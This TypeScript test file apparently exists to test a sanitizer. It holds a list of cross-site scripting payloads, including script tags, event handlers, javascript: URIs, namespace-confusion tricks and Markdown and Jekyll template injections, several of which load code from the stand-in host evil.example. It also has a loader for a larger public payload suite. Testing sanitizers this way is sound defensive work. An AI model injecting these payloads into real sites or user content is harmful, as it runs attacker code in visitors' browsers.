/** For tests: attack strings, our own and public ones. */
import { existsSync, readFileSync } from 'node:fs'
import { z } from 'zod'

/** One of each kind: scripts, handlers, disguised schemes, frames, redirects, SVG, namespaces that change how HTML is parsed again. */
export const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt/src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<a href="&#x6A;ava&Tab;script&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster=javascript:alert(1)//></video>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<p id="</p><script>alert(1)</script>">x</p>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x"onerror="alert(1)](x)',
  '[x](x "t\\"onmouseover=\\"alert(1)")',
  '```js"onmouseover="alert(1)\nx\n```',
  '{% include youtube.html id="dQw4w9WgXcQ" title="\\"><script>alert(1)</script>" %}',
  '<a href="{{ site.baseurl }}javascript:alert(1)">x</a>',
  '[x]({{ "javascript:alert(1)" | relative_url }})',
  '{% highlight "><script>alert(1)</script> %}\n</code><script>alert(1)</script>\n{% endhighlight %}',
  'x{: onclick="alert(1)" style="x"}',
  '[x](y){: href="javascript:alert(1)"}',
  '[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '</article></main><script>alert(1)</script>',
]

/** Thousands of public attack strings; not part of the repository. */
const file = new URL('../../../../shared/suites/xss.jsonl', import.meta.url)

/** The public strings with their ids; empty when the file does not exist. */
export function publicAttacks(): { id: string; payload: string }[] {
  if (!existsSync(file)) return []
  const lines = readFileSync(file, 'utf8').split('\n').filter(Boolean)
  return lines.map((line) => z.object({ id: z.string(), payload: z.string() }).parse(JSON.parse(line)))
}
